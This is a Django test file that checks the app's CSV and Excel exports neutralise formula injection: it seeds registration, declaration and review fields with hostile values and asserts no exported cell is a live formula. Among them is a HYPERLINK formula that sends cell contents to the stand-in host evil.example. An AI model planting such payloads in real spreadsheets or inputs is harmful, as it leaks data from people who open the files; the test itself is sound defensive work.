"""Issue 11, item 2: no export turns what a user typed into a live spreadsheet formula.

An organisation registered anonymously and a declaration carry hostile text in every free-text
field; every export URL of the URL conf is downloaded as the role allowed to use it (worker
exports are built in-process, as the worker would) and opened: no Excel cell is a formula and no
CSV cell starts with a character a spreadsheet evaluates. Real numbers stay numeric cells.
"""

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from core.exports import BUILDERS
from core.models import Export
from declarations.models import Organisation
from declarations.services import transition
from quotas.formal_check import pass_check, return_declaration
from quotas.lists import get_list
from quotas.recommendation import confirm_recommendations, set_recommended
from review.models import Panel, ReviewerProfile
from review.assignment import add_reviewer
from review.scoring import submit_review
from review.setup import ensure_default_sheet, sheet_for
from tests.factories import complete_declaration, credit_code, make_user
from tests.utils import login

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C5&D5,"点击查看")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def hostile(i):
    return HOSTILE[i % len(HOSTILE)]


class HostileWorld:
    def __init__(self, client, p):
        self.p = p
        guide = p.guide
        # The anonymous registration form is the route the probe used for the contact name.
        response = client.post(reverse("register"), {
            "org_name": HYPERLINK, "credit_code": credit_code(777001, division="120116"), "kind": "enterprise",
            "region": "12",
            "dcmm_level": "0", "contact_name": "+1+1", "contact_phone": "13912345678",
            "email": "evil@example.com", "username": "-2+3", "password1": "Hostile#2026-pass",
            "password2": "Hostile#2026-pass"})
        assert response.status_code == 302, response.content.decode()[:2000]
        client.logout()
        self.org = org = Organisation.objects.get(credit_code=credit_code(777001, division="120116"))
        org.address = "@SUM(A1)"
        org.contact_phone = "\r=1"  # as if edited later; the export must not trust earlier validation
        org.save()
        p.district_a_staff.full_name = "\t=1"
        p.district_a_staff.save()
        unit = p.district_a
        unit.name = "-2+3区工业和信息化局"
        unit.save()
        direction = guide.directions.get(code="4")
        direction.name = "@SUM(A1)"
        direction.save()
        texts = dict(project_name=HYPERLINK, summary="+1+1", innovation="-2+3", benefits="@SUM(A1)",
                     promotion="\t=1", open_source="\r=1",
                     ip_items=[{"kind": "=1+1", "title": "+1", "number": "-1"}],
                     cases=[{"name": hostile(i), "customer": hostile(i + 1), "description": hostile(i + 2)}
                            for i in range(5)])
        self.decl = decl = complete_declaration(guide, org, unit, **texts)
        transition(decl, "submitted", actor=None)
        pass_check(declaration=decl, actor=p.district_a_staff)
        self.list = get_list(unit=unit, guide=guide)
        set_recommended(rec_list=self.list, declaration_id=decl.pk, recommended=True, actor=p.district_a_staff)
        self.list = confirm_recommendations(rec_list=self.list, actor=p.district_a_staff)
        transition(decl, "recommended", actor=p.city_staff)

        other = complete_declaration(guide, p.org_b, p.district_b, project_name="-2+3")
        transition(other, "submitted", actor=None)
        return_declaration(declaration=other, actor=p.district_b_staff, reason="=1+1 请补充材料")

        ensure_default_sheet(guide)
        reviewer = make_user("reviewer", "+1+1reviewer", full_name="@SUM(A1)")
        profile = ReviewerProfile.objects.create(user=reviewer, name="=1+2", employer="-1", region="11")
        profile.expertise.set([direction])
        panel = Panel.objects.create(guide=guide, name="@评审组")
        panel.directions.set([direction])
        panel.reviewers.set([reviewer])
        assignment = add_reviewer(declaration=decl, reviewer=reviewer, actor=p.admin)
        criteria = list(sheet_for(decl).criteria.all())
        submit_review(assignment=assignment, actor=reviewer, comment="=HYPERLINK(\"http://x\")",
                      scores={f"score_{c.pk}": str(c.max_points) for c in criteria})


def _csv_from(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return ("csv", body)


def _xlsx_from(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return ("xlsx", body)


def _worker_export(client, url, data, on_commit):
    """POST the export; the worker runs in-process on commit; download the finished file."""
    before = set(Export.objects.values_list("pk", flat=True))
    with on_commit(execute=True):
        response = client.post(url, data)
    assert response.status_code == 302
    export = Export.objects.exclude(pk__in=before).get()
    assert export.state == Export.State.DONE, export.error
    assert client.get(reverse("core:export", args=[export.pk])).status_code == 200
    download = client.get(reverse("core:export_download", args=[export.pk]))
    fetch = _csv_from if export.filename.endswith(".csv") else _xlsx_from
    return export.kind, fetch(download)


# URL name -> (role, fetch(client, world, on_commit) -> list of (export kind or None, (format, bytes))).
# core:export and core:export_download are the page and the file of every worker export above.
FETCHERS = {
    "quotas:export": ("district_a_staff", lambda c, w, oc: [
        _worker_export(c, reverse("quotas:export", args=[w.list.pk]), {}, oc)]),
    "review:ranking_export": ("admin", lambda c, w, oc: [
        _worker_export(c, reverse("review:ranking_export", args=[w.p.guide.pk]), {"query": ""}, oc)]),
    "core:audit_export": ("admin", lambda c, w, oc: [
        _worker_export(c, reverse("core:audit_export", args=["csv"]), {"query": ""}, oc)]),
    "core:audit_export_excel": ("admin", lambda c, w, oc: [
        _worker_export(c, reverse("core:audit_export_excel"), {"query": ""}, oc)]),
    "guides:import_template": ("admin", lambda c, w, oc: [
        (None, _xlsx_from(c.get(reverse("guides:import_template"))))]),
}
VIA_WORKER_EXPORTS = {"core:export", "core:export_download"}
EXPORTISH = re.compile(r"export|csv|xlsx|xls\b|spreadsheet|excel", re.I)


def _urls(resolver=None, ns=""):
    for p in (resolver or get_resolver()).url_patterns:
        if isinstance(p, URLResolver):
            yield from _urls(p, f"{ns}{p.namespace}:" if p.namespace else ns)
        elif isinstance(p, URLPattern) and p.name:
            yield f"{ns}{p.name}", str(p.pattern)


def test_every_export_url_is_covered():
    exports = {name for name, route in _urls() if EXPORTISH.search(name) or EXPORTISH.search(route)}
    assert exports, "no export URL found: the URL walk is broken"
    assert exports - VIA_WORKER_EXPORTS == set(FETCHERS), "add the new export URL to FETCHERS"


def _cells_of(fmt, body):
    if fmt == "csv":
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            yield from ((v, None) for v in row)
        return
    wb = load_workbook(io.BytesIO(body))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from ((c.value, c) for c in row)


def test_no_export_contains_a_formula(client, personas, django_capture_on_commit_callbacks):
    world = HostileWorld(client, personas)
    kinds, texts, formulas, unsafe = set(), set(), [], []
    for name, (role, fetch) in FETCHERS.items():
        login(client, getattr(personas, role))
        for kind, (fmt, body) in fetch(client, world, django_capture_on_commit_callbacks):
            kinds.add(kind)
            for value, c in _cells_of(fmt, body):
                if c is not None and c.data_type == "f":
                    formulas.append((name, c.coordinate, value))
                elif isinstance(value, str):
                    texts.add(value)
                    if value.startswith(DANGEROUS):
                        unsafe.append((name, value))
                elif c is not None and value is not None:
                    assert c.data_type in ("n", "d", "b"), (name, value)
    assert not formulas, f"live formulas in exports: {formulas}"
    assert not unsafe, f"text a spreadsheet would evaluate: {unsafe}"
    assert set(BUILDERS) <= kinds, "an export builder is not reached by any export URL"
    for value in HOSTILE + ["=1+1 请补充材料"]:
        assert "'" + value in texts, f"{value!r} never reached an export: the test proves nothing for it"


def test_numbers_stay_numbers(client, personas, django_capture_on_commit_callbacks):
    world = HostileWorld(client, personas)
    login(client, personas.district_a_staff)
    _kind, (_fmt, body) = _worker_export(client, reverse("quotas:export", args=[world.list.pk]), {},
                                         django_capture_on_commit_callbacks)
    ws = load_workbook(io.BytesIO(body)).active
    row = [c for c in ws[4]]
    assert row[0].value == 1 and row[0].data_type == "n"  # the rank
    assert row[1].value == "'" + HYPERLINK and row[1].data_type == "s"
    assert row[8].value == "'+1+1"  # the contact name typed at registration


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("北京=1", "北京=1"), ("", ""), (None, None), (3, 3), (-2.5, -2.5),
])
def test_the_writer_neutralises_text_and_keeps_numbers(value, expected):
    from core.spreadsheet import cell

    assert cell(value) == expected


def test_every_module_that_writes_a_spreadsheet_uses_the_safe_writer():
    """A new export written with openpyxl or csv directly would skip the neutralising: name it here."""
    import os
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    skip = {".venv", "tests", "bench", "migrations", "node_modules", "staticfiles", "media", "var", ".git"}
    offenders = []
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in skip]
        for name in files:
            path = Path(folder) / name
            if not name.endswith(".py") or path == root / "core" / "spreadsheet.py":
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)|Workbook\(", source) and not re.search(
                    r"spreadsheet import|import spreadsheet", source):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
